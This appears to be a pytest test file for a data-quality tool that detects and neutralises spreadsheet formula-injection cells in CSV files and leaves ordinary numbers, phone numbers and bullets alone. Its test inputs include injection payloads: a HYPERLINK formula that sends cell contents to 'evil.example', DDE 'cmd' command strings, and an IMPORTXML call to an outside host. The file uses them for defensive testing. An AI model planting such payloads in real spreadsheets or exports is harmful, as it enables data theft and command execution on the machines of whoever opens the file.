"""formula-injection: cells that a spreadsheet would run are errors with a fix; numbers, phones, bullets are not."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from odwb_assist import quality
from odwb_assist.checks.formula_injection import NeutraliseFormulas, formula_cells
from odwb_assist.core.contract import FixContext

RUNS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Namur")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "+Feuil1!A1",
    "\t=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
]
SAFE = [
    "-12,5", "+32 81 24 00 00", "+32 (0)81 24 00 00", "-", "- voir annexe (p. 3)", "@ville_de_namur",
    "=====", "=", "Namur", "", "+", "-0.5", "1=1", "E42 - sortie 12",
]


@pytest.mark.parametrize("cell", RUNS)
def test_cells_that_run_are_found(cell: str) -> None:
    assert list(formula_cells(pd.Series([cell]))) == [cell]


@pytest.mark.parametrize("cell", SAFE)
def test_ordinary_cells_are_not(cell: str) -> None:
    assert formula_cells(pd.Series([cell])).empty


def test_check_reports_an_error_and_the_fix_neutralises(tmp_path: Path) -> None:
    source = tmp_path / "associations.csv"
    source.write_text(
        "nom;site;telephone;solde\n"
        'Chorale Sainte-Cécile;=HYPERLINK("http://evil.example","Namur");+32 81 24 00 00;-12,5\n'
        "Club de pétanque;https://petanque.example;+32 (0)81 22 33 44;15\n",
        encoding="utf-8",
    )
    report = quality.check(source)
    found = report.by_type().get("formula-injection", [])
    assert len(found) == 1 and found[0].field_name == "site" and found[0].row_number == 2
    assert found[0].severity.value == "error"

    output = tmp_path / "propre.csv"
    result = quality.fix(source, output)
    assert result.counts.get("neutralise-formulas") == 1
    assert "'=HYPERLINK(" in output.read_text(encoding="utf-8")
    assert "formula-injection" not in quality.check(output).by_type()


def test_fix_leaves_everything_else_alone() -> None:
    table = pd.DataFrame({"a": ["=1+1", "-3", "+32 81 00 00 00"]}, index=[2, 3, 4])
    new, changes = NeutraliseFormulas().apply(table, FixContext())
    assert list(new["a"]) == ["'=1+1", "-3", "+32 81 00 00 00"]
    assert [(c.row_number, c.before, c.after) for c in changes] == [(2, "=1+1", "'=1+1")]



def test_labels_that_differ_only_by_outer_spaces_stay_two_columns() -> None:
    from odwb_assist.checks.trim_spaces import TrimSpaces

    table = pd.DataFrame([["Ciney", "=1+1", "3"]], columns=["commune", "2021 ", "2021"], index=[2])
    trimmed, _changes = TrimSpaces().apply(table, FixContext())
    assert list(trimmed.columns) == ["commune", "2021 ", "2021"]
    new, changes = NeutraliseFormulas().apply(trimmed, FixContext())  # crashed on a duplicated label
    assert new.iloc[0, 1] == "'=1+1" and len(changes) == 1


def test_the_xlsx_report_writes_a_formula_cell_as_text(tmp_path: Path) -> None:
    import openpyxl

    from odwb_assist.quality.xlsx_report import write_xlsx

    source = tmp_path / "associations.csv"
    source.write_text('nom,site\nChorale,"=HYPERLINK(""http://evil.example"",""Namur"")"\nClub,https://club.example\n',
                      encoding="utf-8")
    report = quality.check(source)
    out = write_xlsx(report, source, tmp_path / "rapport.xlsx")
    book = openpyxl.load_workbook(out)
    data = book.worksheets[0]
    cell = data.cell(row=2, column=2)
    assert cell.value.startswith("=HYPERLINK(") and cell.data_type == "s"
    problems = book.worksheets[1]
    values = [c for row in problems.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert values and all(c.data_type == "s" for c in values)


def test_the_arrow_mask_gives_python_s_verdict_on_every_cell() -> None:
    """The first-byte test and the RE2 prefilter only ever skip cells Python's ``re`` would not match."""
    import random
    import re

    import numpy as np
    import pyarrow as pa

    from odwb_assist.checks.formula_injection import FORMULA, TRIGGERS, formula_mask

    rng = random.Random(7)
    alphabet = list("=+-@\t\r\n aZ_.()|!$1é€x'\"")
    cells = [*RUNS, *SAFE, "= ", "=\n", "==x", "\r\t+a("]
    cells += ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 8))) for _ in range(20_000)]
    expected = [cell[:1] in TRIGGERS and re.fullmatch(FORMULA, cell) is not None for cell in cells]
    assert sum(expected) > 100  # the random cells hold formulas and near misses
    assert formula_mask(pd.Series(cells, dtype="str")).tolist() == expected
    sliced = pd.Series(pd.arrays.ArrowStringArray(pa.chunked_array([pa.array([None, *cells], pa.large_string())
                                                                       .slice(1)])))
    assert np.array_equal(formula_mask(sliced), expected)
